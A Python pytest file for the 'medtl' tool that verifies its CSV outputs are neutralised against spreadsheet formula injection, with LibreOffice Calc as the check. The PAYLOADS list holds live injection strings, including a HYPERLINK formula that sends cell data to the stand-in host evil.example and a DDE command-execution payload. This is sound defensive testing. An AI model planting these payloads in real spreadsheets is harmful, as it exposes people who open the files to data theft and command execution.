"""Every CSV medtl writes is safe to open in a spreadsheet (CSV injection, OWASP), and reads back
as it was written. The check that counts is LibreOffice's own: Debian's LibreOffice Calc converts
the files headless, with formula evaluation on, and no cell may come out as a formula."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from report_setup import SAMPLE

from medtl.cli import main
from medtl.csvcells import FORMULA_STARTS, csv_text, plain_cell, read_dicts, safe_cell
from medtl.data.csvfile import read_csv_rows
from medtl.files import write_csv
from medtl.report import VerdictStore, build_report, export_verdicts, import_verdicts

#: What an attacker writes into a comment, a reader's name or a file name (OWASP's examples).
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "=1+1", "'=1+1"]  # fmt: skip


def test_cells_are_neutralised_and_read_back_exactly():
    for value in [*PAYLOADS, "-0.25", "+3", "1e-3", "-inf", "ok", "a=b", "", "'", "''", "'plain", "-", "="]:
        cell = safe_cell(value)
        assert plain_cell(cell) == value, value
        if value[:1] in FORMULA_STARTS and not re.fullmatch(r"[+-]?[\d.e-]+|-inf|[+-]", value):
            assert cell.startswith("'"), value
    assert safe_cell(-0.25) == -0.25 and safe_cell("-0.25") == "-0.25"  # numbers stay numbers
    assert safe_cell("-") == "'-" and safe_cell("=") == "'="


def test_every_writer_and_reader_agree(tmp_path):
    rows = [{"path": p, "score": -0.5} for p in PAYLOADS]
    write_csv(tmp_path / "a.csv", rows)
    text = (tmp_path / "a.csv").read_text()
    assert "\n=" not in text and '\n"=' not in text and "\n+" not in text and "\n@" not in text
    assert [r["path"] for r in read_dicts(tmp_path / "a.csv")] == PAYLOADS
    assert [r["path"] for r in read_csv_rows(tmp_path / "a.csv")[1]] == PAYLOADS
    assert [r["score"] for r in read_dicts(tmp_path / "a.csv")] == ["-0.5"] * len(PAYLOADS)
    assert csv_text(rows[:1], ["path"]) == "path\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"details\"\")\"\n"


# ----------------------------------------------------------------------------- LibreOffice
def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip("LibreOffice is not installed (Debian: apt-get install libreoffice-calc-nogui)")
    return found


def _cells(path: Path, tmp: Path) -> list[dict[str, str]]:
    """Every non-empty cell as LibreOffice Calc reads the CSV with formula evaluation on: its
    formula (if any) and its type, from the flat ODF it converts to."""
    out = tmp / f"lo-{path.stem}"
    # CSV filter tokens: comma, double quote, UTF-8, from line 1, ..., token 13 "evaluate formulas" on
    options = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    subprocess.run([_soffice(), "--headless", "--norestore", f"-env:UserInstallation=file://{tmp / 'lo-profile'}",
                    f"--infilter={options}", "--convert-to", "fods", "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=120)  # fmt: skip
    text = (out / f"{path.stem}.fods").read_text(encoding="utf-8")
    cells = []
    for m in re.finditer(r"<table:table-cell([^>]*?)(/>|>(.*?)</table:table-cell>)", text, re.S):
        attrs = dict(re.findall(r'([\w:-]+)="([^"]*)"', m.group(1)))
        if "office:value-type" in attrs:
            cells.append({"formula": attrs.get("table:formula", ""), "type": attrs["office:value-type"]})
    return cells


def test_libreoffice_evaluates_formulas_in_a_plain_csv(tmp_path):
    """The control: without neutralising, the same cells are formulas (so the checks below can fail)."""
    raw = tmp_path / "raw.csv"
    with open(raw, "w", newline="") as fh:
        csv.writer(fh).writerows([["comment"], *[[p] for p in (*PAYLOADS[:2], "=1+1")]])
    assert sum(bool(c["formula"]) for c in _cells(raw, tmp_path)) == 3


@pytest.fixture(scope="module")
def formula_named(report_inputs, tmp_path_factory):
    """A folder whose file names are formulas, predicted: ``(input, predictions)``."""
    from medtl.predict import predict_folder

    root = tmp_path_factory.mktemp("formulas")
    source = SAMPLE / "cxr" / "p001" / "IM000101"
    names = ["=1+1.dcm", "-2+3.dcm", "@SUM(1,1).dcm", '=HYPERLINK("http:__evil.example","x").dcm']
    (root / "in").mkdir()
    for name in names:
        shutil.copy(source, root / "in" / name)
    (root / "in" / "=cmd|' -C calc'!A0.dcm").write_bytes(b"DICM but not really" * 10)
    predict_folder(report_inputs[0], root / "in", root / "pred", workers=0)
    return root / "in", root / "pred", names


def test_predictions_and_errors_of_formula_named_files_open_as_text(formula_named, report_inputs, tmp_path):
    folder, pred, names = formula_named
    rows, errors = read_dicts(pred / "predictions.csv"), read_dicts(pred / "errors.csv")
    assert sorted(r["path"] for r in rows) == sorted(names)  # read back as the files are named
    assert [e["path"] for e in errors] == ["=cmd|' -C calc'!A0.dcm"]
    for name in ("predictions.csv", "errors.csv"):
        cells = _cells(pred / name, tmp_path)
        assert cells and not [c for c in cells if c["formula"]], name
    # medtl reads its own files back: the report finds every image under its formula-like name
    record = build_report(report_inputs[0], pred, tmp_path / "report", input_dir=folder, workers=0)
    assert record["counts"]["cases"] == 4 and record["counts"]["errors"] == 1
    assert "image is not available" not in "".join(
        (tmp_path / "report" / c["page"]).read_text() for c in record["cases"])  # fmt: skip


def test_a_verdicts_export_opens_as_text_and_imports_back(report_folder, tmp_path):
    folder = tmp_path / "report"
    shutil.copytree(report_folder, folder)
    key = json.loads((folder / "report.json").read_text())["cases"][0]["key"]
    with VerdictStore(folder / "verdicts.sqlite") as store:
        for i, payload in enumerate(PAYLOADS):
            store.record(key, payload.strip() if i % 2 else f"dr_{i}", "agree", comment=payload)
    assert main(["review", "export", str(folder), "-o", str(tmp_path / "v.csv")]) == 0
    cells = _cells(tmp_path / "v.csv", tmp_path)
    assert len(cells) >= 8 * len(PAYLOADS) and not [c for c in cells if c["formula"]]
    # the export is the same whichever way it is taken, and imports back to the very same text
    from medtl.report.verdicts import EXPORT_COLUMNS

    with VerdictStore(folder / "verdicts.sqlite") as store:
        assert store.csv_text() == (tmp_path / "v.csv").read_text()
    other = tmp_path / "other"
    shutil.copytree(report_folder, other)
    assert import_verdicts(tmp_path / "v.csv", other)["imported"] == len(PAYLOADS)
    with VerdictStore(other / "verdicts.sqlite") as store:
        assert [r["comment"] for r in store.history()] == PAYLOADS
    assert export_verdicts(other, tmp_path / "again.csv") == len(PAYLOADS)
    with open(tmp_path / "again.csv", newline="") as fh:
        assert list(csv.reader(fh))[0] == list(EXPORT_COLUMNS)


def test_an_audit_with_formula_like_groups_writes_safe_csvs(tmp_path):
    from medtl.evaluate.audit import audit

    n = 80
    data = {"y": [i % 2 for i in range(n)], "p": [((i * 37) % 100) / 100 for i in range(n)],
            "site": ["=1+1", "@SUM(1,1)"] * (n // 2)}  # fmt: skip
    audit(data, "y", "p", "site", n_boot=20, min_group=5).save(tmp_path / "audit", plots=False)
    written = sorted((tmp_path / "audit").glob("*.csv"))
    assert written
    for path in written:
        assert not re.search(r'(^|,|\n)"?[=@]', path.read_text()), path.name
        assert not [c for c in _cells(path, tmp_path) if c["formula"]], path.name
